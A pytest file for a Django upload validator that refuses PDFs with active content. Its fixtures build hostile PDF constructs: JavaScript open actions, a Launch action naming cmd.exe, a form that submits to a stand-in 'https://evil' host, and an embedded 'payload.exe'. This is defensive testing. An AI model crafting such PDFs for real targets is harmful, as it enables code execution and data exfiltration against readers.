"""PDFs that act rather than show are refused (issue 14, item 10): JavaScript, open and launch
actions, embedded files, in any object, reachable or not; files pypdf cannot read are refused too.
The PDFs are built with pypdf's writer from plain dictionaries, as an attacker's tool would."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applications.models import ApplicationAttachment
from core.files import pdf_active_content, validate_pdf_upload
from tests.factories.applications import ApplicationFactory
from tests.factories.deposits import PDF_BYTES

pytestmark = pytest.mark.django_db


def _name(value: str) -> NameObject:
    return NameObject(value)


def _javascript() -> DictionaryObject:
    return DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")}
    )


def _pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action_javascript(writer):
    writer.root_object[_name("/OpenAction")] = writer._add_object(_javascript())


def _document_javascript(writer):
    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(_javascript())])}
    )
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})


def _launch_on_page_open(writer):
    launch = DictionaryObject({_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("cmd.exe")})
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): launch})


def _link_that_submits(writer):
    submit = DictionaryObject(
        {_name("/S"): _name("/SubmitForm"), _name("/F"): TextStringObject("https://evil")}
    )
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([]),
            _name("/A"): submit,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _embedded_file(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00")


def _orphan_javascript(writer):
    writer._add_object(_javascript())  # in the file, used by nothing a viewer walks from the catalogue


ACTIVE = {
    "open action": (_open_action_javascript, "JavaScript"),
    "document javascript": (_document_javascript, "JavaScript"),
    "launch on page open": (_launch_on_page_open, "starts a program"),
    "link that submits": (_link_that_submits, "a form that sends data"),
    "embedded file": (_embedded_file, "embedded files"),
    "orphan object": (_orphan_javascript, "JavaScript"),
}


@pytest.mark.parametrize(("change", "what"), ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_with_active_content_is_refused_naming_what_it_holds(change, what):
    with pytest.raises(ValidationError) as refused:
        validate_pdf_upload(SimpleUploadedFile("paper.pdf", _pdf(change)))
    assert refused.value.code == "active_pdf"
    assert what in refused.value.messages[0]
    assert "Print it to a new PDF" in refused.value.messages[0]


def test_a_pdf_that_only_shows_is_accepted_and_the_file_is_left_at_its_start():
    upload = SimpleUploadedFile("paper.pdf", PDF_BYTES)
    validate_pdf_upload(upload)
    assert upload.tell() == 0
    assert pdf_active_content(io.BytesIO(_pdf())) == []


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4 truncated",
        b"%PDF-1.4\n%%EOF\n",
        PDF_BYTES[: len(PDF_BYTES) // 2],
        b"%PDF-" + b"\xff" * 4096,
    ],
)
def test_a_pdf_that_cannot_be_read_is_refused_with_a_clear_message(content):
    with pytest.raises(ValidationError) as refused:
        validate_pdf_upload(SimpleUploadedFile("paper.pdf", content))
    assert refused.value.code == "unreadable_pdf"
    assert "could not be read" in refused.value.messages[0]


def test_the_attachment_form_refuses_a_pdf_with_javascript_and_stores_nothing(client_for, researcher):
    application = ApplicationFactory(lead=researcher)
    response = client_for(researcher).post(
        reverse("applications:attachment_add", kwargs={"pk": application.pk}),
        {
            "description": "Ethics approval",
            "file": SimpleUploadedFile("ethics.pdf", _pdf(_open_action_javascript)),
        },
    )
    assert response.status_code == 200
    assert "This PDF contains JavaScript" in response.content.decode()
    assert not ApplicationAttachment.objects.filter(application=application).exists()
